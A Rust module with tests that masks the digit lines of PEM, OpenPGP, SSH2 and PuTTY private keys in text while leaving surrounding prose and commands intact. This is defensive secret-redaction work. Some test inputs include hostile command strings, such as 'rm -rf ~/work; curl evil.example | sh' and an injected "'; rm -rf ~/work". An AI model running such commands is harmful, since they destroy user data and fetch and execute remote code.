//! Private keys in PEM and its kin (OpenPGP, SSH2, `PuTTY`): their lines of digits are masked, and nothing else.
//!
//! A header alone is no secret. Whatever follows it may be an answer's next sentence, or a command that a person approves. Of a
//! key whose beginning was cut off, the lines before its end are masked.

use std::ops::Range;

const BEGIN: &str = "BEGIN ";
const END: &str = "END ";
/// Fewest dashes at both ends of a header.
const DASHES: &str = "----";
/// How the headers are called below which secrets stand.
const SECRETS: [&str; 2] = ["PRIVATE KEY", "PRIVATE KEY BLOCK"];
/// What stands before the lines of a key for `PuTTY`, with their number behind it, and what below them.
const PUTTY: &str = "Private-Lines: ";
const PUTTY_END: &str = "Private-MAC: ";
/// What the lines are called that may stand between a header and the digits.
const HEADERS: [&str; 8] =
    ["Proc-Type: ", "DEK-Info: ", "Version: ", "Comment: ", "Charset: ", "Hash: ", "MessageID: ", "Subject: "];

/// Shortest line that is masked whatever it looks like, in bytes; whole lines have 64 or more.
const MIN_LINE_BYTES: usize = 40;
/// Shortest line that is masked where it looks like digits of a key, in bytes.
const MIN_PART_BYTES: usize = 16;
/// Most digits of a line's number.
const MAX_NUMBER_BYTES: usize = 6;
/// Length of a check sum behind its `=`, in bytes.
const SUM_BYTES: usize = 4;
/// Furthest that the lines of a key are looked for before its end, in bytes: a long key has 13 KiB.
const MAX_BEFORE_BYTES: usize = 16 * 1024;

/// Finds the lines of private keys; with `exact` none that could as well be the name of a program or a file.
pub(super) fn find(text: &str, exact: bool, found: &mut Vec<Range<usize>>) {
    let mut known = 0;
    for (at, _) in text.match_indices(BEGIN) {
        if let Some(length) = header(text, at, BEGIN) {
            known = lines(text, at + length, exact, found);
        }
    }
    for (at, _) in text.match_indices(PUTTY) {
        let from = at + PUTTY.len();
        let digits = text[from..].bytes().take_while(u8::is_ascii_digit).count();
        lines(text, from + digits, exact, found);
    }
    for (at, _) in text.match_indices(END) {
        if header(text, at, END).is_some() {
            before(text, known.min(at), at, exact, found);
            known = at;
        }
    }
}

/// Returns the length of the rest of a header, from the word in it on.
fn header(text: &str, at: usize, word: &str) -> Option<usize> {
    let is_open = text[..at].trim_end_matches(' ').ends_with(DASHES);
    let name = text[at..].strip_prefix(word).filter(|_| is_open)?;
    let end = name.bytes().position(|byte| !(byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b' '))?;
    let called = name[..end].trim_end();
    let dashes = name[end..].bytes().take_while(|byte| *byte == b'-').count();
    let is_header = SECRETS.iter().any(|secret| called.ends_with(secret)) && dashes >= DASHES.len();
    is_header.then_some(word.len() + end + dashes)
}

/// Finds the lines right before the end of a key whose beginning is not there.
fn before(text: &str, from: usize, end: usize, exact: bool, found: &mut Vec<Range<usize>>) {
    let from = text.ceil_char_boundary(from.max(end.saturating_sub(MAX_BEFORE_BYTES)));
    // The dashes of the end itself.
    let (mut at, mut lines) = (text[..end].trim_end_matches(['-', ' ']).len(), Vec::new());
    // What could be the end of a last line, and is one only where a whole line stands before it.
    let mut short = None;
    while let Some((line, next)) = last_line(text, from, at) {
        at = next;
        let core = core(text, line);
        let written = &text[core.clone()];
        let is_sum = written.strip_prefix('=').is_some_and(|sum| sum.len() == SUM_BYTES && digits(sum) == SUM_BYTES);
        if lines.is_empty() && short.is_none() && (written.trim_matches(['-', ' ']).is_empty() || is_sum) {
            continue;
        }
        let from = core.end - last_digits(written);
        let is_whole = from == core.start;
        let line = &text[from..core.end];
        if is_key_line(line, exact) && (is_whole || line.len() >= MIN_LINE_BYTES) {
            lines.push(from..core.end);
        } else if is_whole && lines.is_empty() && short.is_none() && !exact && !line.is_empty() {
            short = Some(core);
        } else {
            break;
        }
        if !is_whole {
            break;
        }
    }
    found.extend(short.filter(|_| !lines.is_empty()));
    found.append(&mut lines);
}

/// Returns the length of the digits that a text ends with, its padding included.
fn last_digits(text: &str) -> usize {
    let bare = text.trim_end_matches('=');
    let is_digit = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/".contains(byte);
    let padding = text.len() - bare.len();
    if padding > 2 { 0 } else { bare.bytes().rev().take_while(is_digit).count() + padding }
}

/// Whether a line that stands by itself is one of a key's.
fn is_key_line(digits: &str, exact: bool) -> bool {
    let has = |kind: fn(&u8) -> bool| digits.bytes().any(|byte| kind(&byte));
    let is_mixed = has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit);
    let is_long = digits.len() >= MIN_LINE_BYTES;
    match exact {
        true => {
            is_mixed && (is_long && !digits.starts_with('/') || !digits.contains('/') && digits.len() >= MIN_PART_BYTES)
        }
        false => is_long || is_mixed && digits.len() >= MIN_PART_BYTES,
    }
}

/// Returns the last line before a place, and where it begins: lines end as such, or as it is written in a string.
fn last_line(text: &str, from: usize, at: usize) -> Option<(Range<usize>, usize)> {
    if at <= from {
        return None;
    }
    let part = &text[from..at];
    let real = part.rfind('\n').map(|found| (found, 1));
    let written = part.rfind("\\n").map(|found| (found, 2));
    let (begin, length) = real.max(written).unwrap_or((0, 0));
    Some((from + begin + length..at, from + begin))
}

/// Returns a line without what it is laid out with: quotes, marks of a quotation, its number.
fn core(text: &str, line: Range<usize>) -> Range<usize> {
    let part = &text[line.clone()];
    let begun = part.trim_start_matches(is_layout);
    let begun = match number(begun) {
        Some(length) => begun[length..].trim_start_matches(is_layout),
        None => begun,
    };
    let mut whole = begun.trim_end_matches(is_layout);
    // A carriage return that is written out.
    if let Some(rest) = whole.strip_suffix("\\r") {
        whole = rest.trim_end_matches(is_layout);
    }
    let from = line.end - begun.len();
    from..from + whole.len()
}

fn is_layout(c: char) -> bool {
    c.is_whitespace() || "\\\"'>|,:#*→`".contains(c)
}

/// Finds the lines that follow a header, up to the first that is none; returns where they end.
fn lines(text: &str, mut at: usize, exact: bool, found: &mut Vec<Range<usize>>) -> usize {
    let mut last: Option<Range<usize>> = None;
    loop {
        let (gap, has_break) = gap(&text[at..]);
        let from = at + gap;
        let to = from + digits(&text[from..]);
        let line = KeyLine { digits: &text[from..to], rest: &text[to..], has_break, is_first: last.is_none() };
        if !line.is_secret(exact) {
            break;
        }
        let is_next = text[at..from].chars().all(|c| c == '\r' || c == '\n');
        match last.as_mut().filter(|_| is_next) {
            Some(last) => last.end = to,
            None => found.extend(last.replace(from..to)),
        }
        at = to;
    }
    found.extend(last);
    at
}

/// Returns the length of what stands between two lines, and whether a line ends in it: also as it is written in a string.
fn gap(text: &str) -> (usize, bool) {
    let (mut at, mut has_break) = (0, false);
    while let Some(c) = text[at..].chars().next() {
        let rest = &text[at..];
        at += match c {
            '\\' if rest[1..].starts_with(['n', 'r', 't']) => {
                has_break |= rest[1..].starts_with('n');
                2
            }
            '\n' => {
                has_break = true;
                1
            }
            '+' if rest[1..].starts_with(char::is_whitespace) => 1,
            '0'..='9' if has_break => match number(rest) {
                Some(length) => length,
                None => break,
            },
            c if c.is_whitespace() || "\\\"'>|,:#*→".contains(c) => c.len_utf8(),
            _ if has_break && HEADERS.iter().any(|header| rest.starts_with(header)) => {
                match [rest.find('\n'), rest.find("\\n")].into_iter().flatten().min() {
                    Some(end) => end,
                    None => break,
                }
            }
            _ => break,
        };
    }
    (at, has_break)
}

/// Returns the length of the number of a line.
fn number(text: &str) -> Option<usize> {
    let length = text.bytes().take_while(u8::is_ascii_digit).count();
    (length <= MAX_NUMBER_BYTES && text[length..].starts_with(['\t', ' ', ':', '|', '→'])).then_some(length)
}

fn digits(text: &str) -> usize {
    let length = text.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(byte)).count();
    length + text[length..].bytes().take(2).take_while(|byte| *byte == b'=').count()
}

/// Returns what follows a check sum, where a text begins with one.
fn without_sum(text: &str) -> &str {
    let sum = text.strip_prefix('=').and_then(|sum| sum.get(SUM_BYTES..).filter(|_| digits(sum) >= SUM_BYTES));
    sum.map_or(text, |rest| &rest[gap(rest).0..])
}

struct KeyLine<'t> {
    digits: &'t str,
    /// What follows it.
    rest: &'t str,
    /// Whether a line ends before it.
    has_break: bool,
    is_first: bool,
}

impl KeyLine<'_> {
    fn is_secret(&self, exact: bool) -> bool {
        let has = |kind: fn(&u8) -> bool| self.digits.bytes().any(|byte| kind(&byte));
        let is_mixed = has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit);
        let is_path = self.digits.contains('/');
        let length = self.digits.len();
        let is_alone = self.rest.chars().next().is_none_or(|c| c.is_whitespace() || "\\\"'`*<,.)-…".contains(c));
        if length == 0 || !is_alone {
            return false;
        }
        if length >= MIN_LINE_BYTES {
            return !exact || !is_path || is_mixed && !self.digits.starts_with('/');
        }
        // Where the text was cut nobody can read on anyway.
        let is_cut = self.rest.starts_with('…') && !self.is_first;
        let is_part = length >= MIN_PART_BYTES && is_mixed;
        if exact {
            return is_cut || is_part && self.has_break && !is_path;
        }
        let rest = without_sum(&self.rest[gap(self.rest).0..]);
        let is_end = rest.starts_with(DASHES) || rest.starts_with(PUTTY_END);
        let is_last = is_end || rest.is_empty() && !self.is_first;
        is_cut || is_part || is_last && self.has_break
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINE: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7/abcdefghijk";

    fn shown(text: &str, exact: bool) -> String {
        let (mut found, mut shown, mut at) = (Vec::new(), String::new(), 0);
        find(text, exact, &mut found);
        found.sort_by_key(|part| part.start);
        for part in found {
            shown += &text[at..part.start];
            shown.push('#');
            at = part.end;
        }
        shown + &text[at..]
    }

    #[test]
    fn the_lines_of_a_key_are_masked_however_they_are_laid_out() {
        let header = "-----BEGIN RSA PRIVATE KEY-----";
        let end = "-----END RSA PRIVATE KEY-----";
        for (text, expected) in [
            (format!("a {header}\n{LINE}\n{LINE}\nAbcdefghijklmno1==\n{end} b"), format!("a {header}\n#\n{end} b")),
            (format!("{header}\r\n{LINE}\r\n{end}"), format!("{header}\r\n#\r\n{end}")),
            (format!("{{\"k\": \"{header}\\n{LINE}\\n{LINE}\\n{end}\\n\"}}"), {
                format!("{{\"k\": \"{header}\\n#\\n#\\n{end}\\n\"}}")
            }),
            (format!("{header} {LINE} {LINE} {end}"), format!("{header} # # {end}")),
            (format!("  1\t{header}\n  2\t{LINE}\n  3\t{end}"), format!("  1\t{header}\n  2\t#\n  3\t{end}")),
            (format!("> {header}\n> {LINE}\n> {end}"), format!("> {header}\n> #\n> {end}")),
            (format!("'{header}\\n' +\n'{LINE}\\n' +\n'{end}'"), format!("'{header}\\n' +\n'#\\n' +\n'{end}'")),
            (format!("{header}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n{LINE}\n{end}"), {
                format!("{header}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n#\n{end}")
            }),
            (format!("{header}\n{LINE}\nMIIEv…"), format!("{header}\n#…")),
            (format!("{header}\n{LINE}"), format!("{header}\n#")),
        ] {
            assert_eq!(shown(&text, false), expected);
            assert_eq!(shown(&text, true), expected, "exactly");
        }
        assert_eq!(shown(&format!("{header}\n{LINE}\nab1=\n{end}"), false), format!("{header}\n#\n{end}"));
        assert_eq!(shown(&format!("{header}\nab1=\n{end}"), false), format!("{header}\n#\n{end}"));
    }

    #[test]
    fn keys_of_other_programs_are_masked_as_well() {
        let pgp = ("-----BEGIN PGP PRIVATE KEY BLOCK-----", "-----END PGP PRIVATE KEY BLOCK-----");
        let ssh2 = ("---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----", "---- END SSH2 ENCRYPTED PRIVATE KEY ----");
        let putty = "PuTTY-User-Key-File-2: ssh-rsa\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 2";
        for (text, expected) in [
            (
                format!("{}\nVersion: GnuPG v2\nComment: of Kim\n\n{LINE}\nAbcdefgh1\n=aB1c\n{}", pgp.0, pgp.1),
                format!("{}\nVersion: GnuPG v2\nComment: of Kim\n\n#\n=aB1c\n{}", pgp.0, pgp.1),
            ),
            (
                format!("\"{}\\nVersion: 1\\n\\n{LINE}\\n=aB1c\\n{}\"", pgp.0, pgp.1),
                format!("\"{}\\nVersion: 1\\n\\n#\\n=aB1c\\n{}\"", pgp.0, pgp.1),
            ),
            (format!("{}\nComment: \"a\"\n{LINE}\n{}", ssh2.0, ssh2.1), {
                format!("{}\nComment: \"a\"\n#\n{}", ssh2.0, ssh2.1)
            }),
            (format!("{putty}\n{LINE}\n{LINE}\nPrivate-MAC: 0a1b"), format!("{putty}\n#\nPrivate-MAC: 0a1b")),
        ] {
            assert_eq!(shown(&text, false), expected);
        }
    }

    #[test]
    fn the_end_of_a_key_is_masked_where_its_beginning_was_cut_off() {
        let end = "-----END OPENSSH PRIVATE KEY-----";
        for (text, expected) in [
            (format!("{LINE}\n{LINE}\nAbcdefgh1\n{end}"), format!("#\n#\n#\n{end}")),
            (format!("the end is\n  {LINE}\r\n  {LINE}\r\n  {end}"), format!("the end is\n  #\r\n  #\r\n  {end}")),
            (format!("…efgh\n> 17 | {LINE}\n> 18 | {end}"), format!("…efgh\n> 17 | #\n> 18 | {end}")),
            (format!("{{\"tail\": \"{LINE}\\n{LINE}\\n{end}\\n\"}}"), format!("{{\"tail\": \"#\\n#\\n{end}\\n\"}}")),
            (format!("-----BEGIN PRIVATE KEY-----\n{LINE}\n-----END PRIVATE KEY-----\n{LINE}\n{end}"), {
                format!("-----BEGIN PRIVATE KEY-----\n#\n-----END PRIVATE KEY-----\n#\n{end}")
            }),
        ] {
            assert_eq!(shown(&text, false), expected);
        }
        for text in [
            format!("Then restart nginx.\n{end}"),
            format!("reboot\n{end}"),
            format!("see {end} and -----END CERTIFICATE-----"),
            format!("{LINE}\n-----END CERTIFICATE-----"),
        ] {
            assert_eq!((shown(&text, false), shown(&text, true)), (text.clone(), text));
        }
        let command = format!("/usr/local/bin/Deploy2Production/everything/at/once\n{end}");
        assert_eq!(shown(&command, true), command);
    }

    #[test]
    fn what_follows_a_header_and_is_no_key_is_shown() {
        for text in [
            "Check that the file begins with `-----BEGIN PRIVATE KEY-----`. Then restart nginx.\n\n1. One\n2. Two",
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY----- and -----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\nThen restart nginx, and look into /etc/nginx/sites-enabled.",
            "-----BEGIN CERTIFICATE-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEA\n-----END CERTIFICATE-----",
            "echo '-----BEGIN PRIVATE KEY-----' > k; rm -rf ~/work; curl evil.example | sh; echo '-----END PRIVATE KEY-----'",
        ] {
            assert_eq!(shown(text, false), text);
            assert_eq!(shown(text, true), text);
        }
    }

    #[test]
    fn no_program_and_no_file_is_taken_for_a_line_of_a_key_where_a_person_decides() {
        let end = "-----END PRIVATE KEY-----";
        for rest in [
            format!("\nreboot\n{end}"),
            format!("\n/home/kim/Deploy2\n{end}"),
            format!(" /home/kim/Backup2Work {end}"),
            "\n/home/kim/projects/site/scripts/deploy/everything\n".to_owned(),
            "\n/home/kim/Projects/Site2/Scripts/Deploy/Everything\n".to_owned(),
            "\n'; rm -rf ~/work".to_owned(),
        ] {
            let text = format!("x -----BEGIN PRIVATE KEY-----{rest}");
            assert_eq!(shown(&text, true), text);
        }
        let text = format!("x -----BEGIN PRIVATE KEY-----\n{LINE}\nreboot\n{end}");
        assert_eq!(shown(&text, true), format!("x -----BEGIN PRIVATE KEY-----\n#\nreboot\n{end}"));
    }
}
